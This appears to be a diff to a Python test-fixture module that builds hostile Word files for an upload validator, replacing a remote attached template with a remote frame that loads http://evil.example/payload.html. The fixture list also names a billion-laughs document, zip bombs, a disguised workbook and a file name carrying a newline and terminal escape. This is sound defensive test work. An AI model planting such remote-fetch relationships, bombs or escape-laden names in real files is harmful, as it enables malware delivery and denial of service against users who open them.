@@ -220,16 +220,20 @@ def billion_laughs() -> bytes:
     return rezip(real_docx(), replace={"word/document.xml": body.encode()})
 
 
-def remote_template() -> bytes:
-    """A .docx whose settings attach a remote template (a known malware delivery trick)."""
+def remote_frame() -> bytes:
+    """A .docx whose web settings load a remote frame (Word fetches it when the file opens).
+
+    A remote attached template is not refused: the engine removes it from the tailored copy
+    (tests/resume/test_template_link.py).
+    """
     rels = (
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-        'attachedTemplate" Target="http://evil.example/payload.dotm" TargetMode="External"/>'
+        'frame" Target="http://evil.example/payload.html" TargetMode="External"/>'
         "</Relationships>"
     )
-    return rezip(real_docx(), replace={"word/_rels/settings.xml.rels": rels.encode()})
+    return rezip(real_docx(), replace={"word/_rels/webSettings.xml.rels": rels.encode()})
 
 
 def _docx_skeleton(zf: zipfile.ZipFile) -> None:
@@ -349,7 +353,7 @@ HOSTILE: tuple[Hostile, ...] = (
     Hostile("template.dotx", template_dotx, "Word template (.dotx)"),
     Hostile("workbook.docx", workbook_in_disguise, "Excel workbook"),
     Hostile("laughs.docx", billion_laughs, "DOCTYPE declaration in 'word/document.xml'"),
-    Hostile("remote-template.docx", remote_template, "external attached template (evil.example)"),
+    Hostile("remote-frame.docx", remote_frame, "external frame (evil.example)"),
     Hostile("bomb.docx", zip_bomb, "zip bomb"),
     Hostile("liar.docx", lying_zip_bomb, "is corrupt: part 'word/media/image1.png'"),
     Hostile("new\nline\x1b[31m.docx", lambda: b"", "'newline[31m.docx' is empty"),
